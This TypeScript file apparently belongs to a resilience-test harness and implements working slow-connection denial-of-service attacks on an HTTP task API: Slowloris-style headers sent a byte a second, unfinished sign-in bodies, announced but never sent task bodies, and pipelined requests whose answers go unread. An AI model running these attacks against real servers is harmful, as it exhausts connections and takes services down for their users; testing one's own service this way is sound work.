import { randomUUID } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { type Attack, type Attacker, type Target, wasWorkedOn } from './target.ts'

/** A TCP connection that speaks HTTP by hand and reads only when told to. */
function openLine({ url }: Target): Promise<Socket> {
  const { hostname, port } = new URL(url)
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname)
    socket.once('connect', () => resolve(socket))
    socket.once('error', reject)
    socket.on('error', () => {})
    socket.pause()
  })
}

const head = (path: string, token?: string) =>
  `GET ${path} HTTP/1.1\r\nHost: x\r\n${token ? `Authorization: Bearer ${token}\r\n` : ''}\r\n`

const heldMs = 200
const headLength = 'HTTP/1.1 200'.length

/**
 * Opens lines that are closed by the server, too, anew: an attack goes on. A line was taken in when it is still open after
 * a moment; where it asks for something, when that is being answered, of which only the first bytes are read.
 */
async function holdLines(
  target: Target,
  count: number,
  use: (line: Socket) => void,
  { answered = false } = {},
): Promise<Attack> {
  const lines = new Set<Socket>()
  let stopped = false
  let accepted = 0
  const watch = (line: Socket) => {
    if (answered)
      line.once('readable', () => wasWorkedOn(Number(String(line.read(headLength)).slice(-3))) && accepted++)
    else setTimeout(() => line.destroyed || accepted++, heldMs)
  }
  const add = async () => {
    if (stopped) return
    const line = await openLine(target).catch(() => null)
    if (!line) return
    lines.add(line)
    line.once('close', () => {
      lines.delete(line)
      if (!stopped) setTimeout(() => void add(), 50)
    })
    watch(line)
    use(line)
  }
  await Promise.all(Array.from({ length: count }, add))
  return {
    accepted: () => accepted,
    stop: async () => {
      stopped = true
      for (const line of lines) line.destroy()
    },
  }
}

/** A hundred anonymous connections send as many requests in advance as one may, for the page's files, and read no answers. */
export const pipelinedRequests: Attacker = target =>
  holdLines(target, 100, line => line.write(head('/').repeat(16)), { answered: true })

/** Sixty connections of one account ask for its longest list and read none of the answers. */
export const unreadLists: Attacker = target =>
  holdLines(target, 60, line => line.write(head('/api/v1/tasks?category=long&page_size=100', target.token)), {
    answered: true,
  })

/** Five hundred connections send one byte of a request's head every second. */
export const slowHeads: Attacker = async target => {
  const timers = new Set<NodeJS.Timeout>()
  const attack = await holdLines(target, 500, line => {
    line.write('GET / HTTP/1.1\r\nX-Slow: ')
    const timer = setInterval(() => line.write('x'), 1_000)
    timers.add(timer)
    line.once('close', () => clearInterval(timer))
  })
  return {
    ...attack,
    stop: async () => {
      for (const timer of timers) clearInterval(timer)
      await attack.stop()
    },
  }
}

/** Four hundred anonymous connections send almost as much of a sign-in as one may, and never the end of it. */
export const unfinishedBodies: Attacker = target =>
  holdLines(target, 400, line => {
    line.write(
      'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 65000\r\n\r\n',
    )
    line.write(Buffer.alloc(64_000, 0x20))
  })

/** Ninety connections of three accounts announce a task, of which nothing comes. */
export const slowBodies: Attacker = async target => {
  const tokens = [target.token, await register(target), await register(target)]
  let nth = 0
  return holdLines(target, 90, line => {
    const token = tokens[nth++ % tokens.length]
    line.write(
      `POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: 70000\r\n\r\n`,
    )
  })
}

async function register({ url }: Target): Promise<string> {
  const name = `slow-${randomUUID().slice(0, 8)}`
  const answer = await fetch(`${url}/api/v1/auth/register`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email: `${name}@example.com`, username: name, password: 'correct horse 9' }),
  })
  return ((await answer.json()) as { access_token: string }).access_token
}
